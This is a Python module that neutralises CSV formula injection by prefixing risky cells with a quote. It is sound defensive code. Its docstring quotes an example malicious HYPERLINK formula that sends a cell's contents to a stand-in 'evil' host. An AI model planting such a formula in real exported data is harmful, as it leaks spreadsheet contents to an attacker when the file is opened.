"""CSV that a spreadsheet opens as data, never as formulas (CSV / formula injection).

Archived titles, publishers and texts are hostile input: a crawled title such as
``=HYPERLINK("http://evil/?"&A1, "报告")`` written as-is into a CSV becomes a live formula when
the file is opened in Excel, LibreOffice or Google Sheets. Every CSV nianbao writes goes through
:func:`csv_writer` or :class:`SafeDictWriter`, which apply OWASP's rule to each cell: a text
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote ``'``, so the spreadsheet shows it as text.

Plain numbers stay numbers: a cell that is an ``int``/``float``, or text that is only a
decimal number (``-5``, ``+3.5``, ``-1e3``), is left alone -- a spreadsheet reads those as a
number, never as a formula, and the statistics figures must stay usable as numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

__all__ = ["FORMULA_PREFIXES", "SafeDictWriter", "csv_writer", "safe_cell"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that a spreadsheet would read as a
    formula gets a leading ``'``; numbers and every other value are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    """A ``csv.writer`` whose rows pass through :func:`safe_cell`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **kwargs: Any) -> _SafeWriter:
    """Like :func:`csv.writer`, with every cell neutralised by :func:`safe_cell`."""
    return _SafeWriter(out, **kwargs)


class SafeDictWriter(csv.DictWriter):
    """Like :class:`csv.DictWriter`, with every cell neutralised by :func:`safe_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
